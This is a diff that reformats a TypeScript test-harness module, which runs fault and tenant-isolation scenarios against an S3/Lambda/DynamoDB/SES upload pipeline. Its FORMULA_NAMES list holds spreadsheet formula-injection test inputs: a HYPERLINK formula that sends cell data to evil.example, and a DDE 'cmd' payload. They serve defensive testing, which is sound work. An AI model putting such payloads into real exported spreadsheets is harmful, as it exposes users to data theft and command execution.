@@ -7,19 +7,17 @@
 import { randomUUID } from 'node:crypto';
 import type { S3Event } from 'aws-lambda';
 import type { SentEmail } from '../../local/aws/local-aws.js';
-import { encodeEventKey } from '../../shared/storage/bucket-layout.js';
 import { dayToIso, isoToDay } from '../../shared/domain/dates.js';
+import { encodeEventKey } from '../../shared/storage/bucket-layout.js';
 import type { UploadOutcome } from '../../shared/use-cases/plan-upload.js';
-import { type RowSpec, csvOf } from '../support/plan-csv.js';
+import { csvOf, type RowSpec } from '../support/plan-csv.js';
 import { type Call, type Counts, Killed, rng, sesServiceUnavailable } from './faults.js';
 import {
   ADDRESS,
-  type Delivery,
-  type ScheduledStats,
-  type World,
   addPartner,
   at,
   captureLogs,
+  type Delivery,
   deleteObject,
   emailOf,
   forgedEvent,
@@ -35,7 +33,9 @@ import {
   portfolioCsv,
   putObject,
   runScheduled,
+  type ScheduledStats,
   uploadKey,
+  type World,
 } from './world.js';
 
 const outcomeOf = (d: { outcomes?: UploadOutcome[] | undefined }) => d.outcomes?.map((o) => o.outcome).join(',') ?? 'failed';
@@ -61,7 +61,10 @@ export interface DuplicateResult {
 }
 
 /** The same S3 event delivered `deliveries` times, one after another or all at once. */
-export async function duplicateDeliveries(w: World, o: { partnerId: string; csv: string; when: Date; deliveries: number; concurrent: boolean }): Promise<DuplicateResult> {
+export async function duplicateDeliveries(
+  w: World,
+  o: { partnerId: string; csv: string; when: Date; deliveries: number; concurrent: boolean },
+): Promise<DuplicateResult> {
   await addPartner(w, o.partnerId);
   const event = await putObject(w, uploadKey(o.partnerId), o.csv, o.when);
   w.stack.clock.now = o.when;
@@ -120,7 +123,10 @@ export interface CrashResult {
   shardsOk: boolean;
 }
 
-export async function crashAndRerun(w: World, o: { partnerId: string; csv: string; when: Date; killAt: KillPoint; recovery: Recovery }): Promise<CrashResult> {
+export async function crashAndRerun(
+  w: World,
+  o: { partnerId: string; csv: string; when: Date; killAt: KillPoint; recovery: Recovery },
+): Promise<CrashResult> {
   await addPartner(w, o.partnerId);
   const event = await putObject(w, uploadKey(o.partnerId), o.csv, o.when);
   w.chaos.reset();
@@ -217,7 +223,16 @@ async function leftBehind(w: World, partnerId: string): Promise<Pick<FaultResult
  */
 export async function uploadUnderThrottling(
   w: World,
-  o: { partnerId: string; csv: string; when: Date; seed: number; throttleRate: number; maxConsecutive: number; throttleBudget?: number; unprocessedRate: number },
+  o: {
+    partnerId: string;
+    csv: string;
+    when: Date;
+    seed: number;
+    throttleRate: number;
+    maxConsecutive: number;
+    throttleBudget?: number;
+    unprocessedRate: number;
+  },
 ): Promise<FaultResult> {
   await addPartner(w, o.partnerId);
   const event = await putObject(w, uploadKey(o.partnerId), o.csv, o.when);
@@ -246,7 +261,10 @@ export async function uploadUnderThrottling(
 }
 
 /** The S3 body of the upload breaks off after `cutAfter` bytes on the first `cuts` reads. */
-export async function uploadWithBrokenBody(w: World, o: { partnerId: string; csv: string; when: Date; cutAfter: number[] }): Promise<FaultResult> {
+export async function uploadWithBrokenBody(
+  w: World,
+  o: { partnerId: string; csv: string; when: Date; cutAfter: number[] },
+): Promise<FaultResult> {
   await addPartner(w, o.partnerId);
   const key = uploadKey(o.partnerId);
   const event = await putObject(w, key, o.csv, o.when);
@@ -264,7 +282,10 @@ export async function uploadWithBrokenBody(w: World, o: { partnerId: string; csv
     delivery: {
       outcome: first.error ? outcomeOf(rest) : outcomeOf(first),
       attempts: first.error ? 1 + rest.attempts : 1,
-      errors: [...(first.error ? [String((first.error as AggregateError).errors?.[0]?.code ?? (first.error as Error).name)] : []), ...summary(rest).errors],
+      errors: [
+        ...(first.error ? [String((first.error as AggregateError).errors?.[0]?.code ?? (first.error as Error).name)] : []),
+        ...summary(rest).errors,
+      ],
     },
     counts,
     ...(await leftBehind(w, o.partnerId)),
@@ -274,7 +295,10 @@ export async function uploadWithBrokenBody(w: World, o: { partnerId: string; csv
 }
 
 /** SES answers the report e-mail with 503 `failures` times in a row. */
-export async function reportMailUnderSes5xx(w: World, o: { partnerId: string; csv: string; when: Date; failures: number }): Promise<FaultResult> {
+export async function reportMailUnderSes5xx(
+  w: World,
+  o: { partnerId: string; csv: string; when: Date; failures: number },
+): Promise<FaultResult> {
   await addPartner(w, o.partnerId);
   const event = await putObject(w, uploadKey(o.partnerId), o.csv, o.when);
   let left = o.failures;
@@ -347,7 +371,13 @@ export async function simulateDays(w: World, o: { start: string; days: number; f
       },
       call: (call) => {
         const values = call.input.ExpressionAttributeValues as Record<string, unknown> | undefined;
-        if (crashArmed && call.command === 'UpdateItem' && call.input.Key?.pk === `P#${f.partnerId}` && String(call.input.Key?.sk).startsWith('DIGEST#') && Object.values(values ?? {}).includes('sent')) {
+        if (
+          crashArmed &&
+          call.command === 'UpdateItem' &&
+          call.input.Key?.pk === `P#${f.partnerId}` &&
+          String(call.input.Key?.sk).startsWith('DIGEST#') &&
+          Object.values(values ?? {}).includes('sent')
+        ) {
           crashArmed = false;
           injected.crashAfterSend++;
           throw new Killed('recording the digest as sent');
@@ -385,7 +415,9 @@ function recorder(): { touched: Touched; hook: (call: Call) => void } {
         input.Key?.pk,
         input.Item?.pk,
         input.ExpressionAttributeValues?.[':pk'],
-        ...Object.values((input.RequestItems ?? {}) as Record<string, { PutRequest?: { Item: { pk: string } } }[]>).flat().map((r) => r.PutRequest?.Item.pk),
+        ...Object.values((input.RequestItems ?? {}) as Record<string, { PutRequest?: { Item: { pk: string } } }[]>)
+          .flat()
+          .map((r) => r.PutRequest?.Item.pk),
       ];
       for (const pk of pks) if (pk !== undefined) touched.partitions.add(String(pk));
     } else if (call.service === 's3') {
@@ -438,7 +470,10 @@ export interface IsolationResult {
  * Records what each delivery touched (every DynamoDB partition key, S3 key, SES recipient) and
  * what it logged, and B's items and reports before and after.
  */
-export async function tenantIsolation(w: World, o: { attacker: string; victim: string; victimCsv: string; when: Date }): Promise<IsolationResult> {
+export async function tenantIsolation(
+  w: World,
+  o: { attacker: string; victim: string; victimCsv: string; when: Date },
+): Promise<IsolationResult> {
   const { attacker: a, victim: b } = o;
   await addPartner(w, a);
   await addPartner(w, b);
@@ -505,7 +540,7 @@ export async function tenantIsolation(w: World, o: { attacker: string; victim: s
 
 export const FORMULA_NAMES = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
-  '+1+cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
   '-2+3 <b>bold</b>',
   '@SUM(A1:A9) & "x"',
   '\t=1+1 tab first',
@@ -559,17 +594,27 @@ export async function logsAtInfo(w: World, o: { prefix: string; when: Date; rows
   const csv = portfolioCsv(o.rows, 7, today);
   const knownAddresses = [emailOf(ok), emailOf(refused), ...new Set([...csv.matchAll(ADDRESS)].map((m) => m[0]))];
   const rejectFor = (to: string) =>
-    new MessageRejected({ message: `Email address is not verified. The following identities failed the check in region US-EAST-1: ${to}`, $metadata: { httpStatusCode: 400 } });
+    new MessageRejected({
+      message: `Email address is not verified. The following identities failed the check in region US-EAST-1: ${to}`,
+      $metadata: { httpStatusCode: 400 },
+    });
 
   const { lines } = await captureLogs('INFO', async () => {
     await addPartner(w, ok, { notify_customers: true, reseller_link: link });
     await addPartner(w, refused);
     await lambda(w, await putObject(w, uploadKey(ok, `plan for ${emailOf(ok)}.csv`), csv, o.when), o.when);
-    await lambda(w, await putObject(w, uploadKey(ok, 'headers.csv'), `customer_id,${emailOf(ok)},admin@kunde1.example\n1,2,3\n`, o.when), o.when);
+    await lambda(
+      w,
+      await putObject(w, uploadKey(ok, 'headers.csv'), `customer_id,${emailOf(ok)},admin@kunde1.example\n1,2,3\n`, o.when),
+      o.when,
+    );
     await lambda(w, await putObject(w, uploadKey(`${o.prefix}-nobody`, `from ${emailOf(ok)}.csv`), csv, o.when), o.when);
-    w.chaos.set({ sesFault: (a) => (a.input.Destination?.ToAddresses?.includes(emailOf(refused)) ? rejectFor(emailOf(refused)) : undefined) });
+    w.chaos.set({
+      sesFault: (a) => (a.input.Destination?.ToAddresses?.includes(emailOf(refused)) ? rejectFor(emailOf(refused)) : undefined),
+    });
     await lambda(w, await putObject(w, uploadKey(refused), csv, o.when), o.when);
-    for (let d = 0; d < 3; d++) await runScheduled(w, at(dayToIso(isoToDay(today) + d), 7), { invocations: 0, lambdaRetries: 0, deadLettered: 0 });
+    for (let d = 0; d < 3; d++)
+      await runScheduled(w, at(dayToIso(isoToDay(today) + d), 7), { invocations: 0, lambdaRetries: 0, deadLettered: 0 });
     w.chaos.reset();
   });
   const entries = lines.flatMap((l) => {
@@ -606,7 +651,9 @@ async function rejectedUpload(w: World, partnerId: string, name: string, deliver
     delivery: { outcome: outcomeOf(delivery), attempts: delivery.attempts, code: outcome && 'code' in outcome ? outcome.code : undefined },
     upload,
     errorsCsv: errorsKey ? await objectText(w, errorsKey).catch(() => '') : '',
-    failureMails: ((await mailbox(w)).get(emailOf(partnerId)) ?? []).filter((m) => m.subject.includes(name) && /could not be planned/.test(m.subject)).length,
+    failureMails: ((await mailbox(w)).get(emailOf(partnerId)) ?? []).filter(
+      (m) => m.subject.includes(name) && /could not be planned/.test(m.subject),
+    ).length,
   };
 }
 
@@ -639,7 +686,8 @@ export interface InvitationResult {
   lambdaRetries: number;
 }
 
-const RESELLER_LINK = 'https://admin.microsoft.com/Adminportal/Home?invType=ResellerRelationship&partnerId=11111111-2222-3333-4444-555555555555';
+const RESELLER_LINK =
+  'https://admin.microsoft.com/Adminportal/Home?invType=ResellerRelationship&partnerId=11111111-2222-3333-4444-555555555555';
 
 /**
  * Two partners with notify_customers upload the same portfolio (their customers' contacts on
